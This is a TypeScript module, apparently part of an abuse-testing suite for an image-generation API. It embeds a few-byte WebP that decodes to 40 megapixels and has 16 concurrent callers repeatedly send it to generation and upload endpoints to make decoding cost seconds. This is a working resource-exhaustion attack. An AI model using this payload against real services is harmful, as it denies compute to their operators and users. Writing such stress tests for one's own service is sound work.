/** Images of few bytes and many pixels, whose decoding costs seconds. */
import { type Attack, jsonHeaders, repeating } from "./Attack.ts"
import { models } from "./models.ts"

const callers = 16

/** A black lossless WebP of 6324 by 6324 pixels, 40 megapixels. */
const image = "UklGRhoAAABXRUJQVlA4TA4AAAAvs9gsBgcQEf0PRET/Aw=="

/** Creates jobs with four such images each, and uploads them. */
export const attack: Attack = async ({ keys: [key = ""], origin }) => {
  const bytes = Buffer.from(image, "base64")
  const images = Array.from({ length: 4 }, () => ({ data: image }))
  const bodyOf = (n: number) =>
    JSON.stringify({ plan: "credits", model: models.quick.id, params: { prompt: `lake ${n}`, images } })
  return repeating({
    origin,
    callers,
    requestOf: (n) =>
      n % 2 === 0
        ? { method: "POST", path: "/v1/generations", headers: jsonHeaders(key), body: bodyOf(n) }
        : {
          method: "POST",
          path: "/v1/uploads",
          headers: { ...jsonHeaders(key), "content-type": "image/webp" },
          body: bytes
        }
  })
}
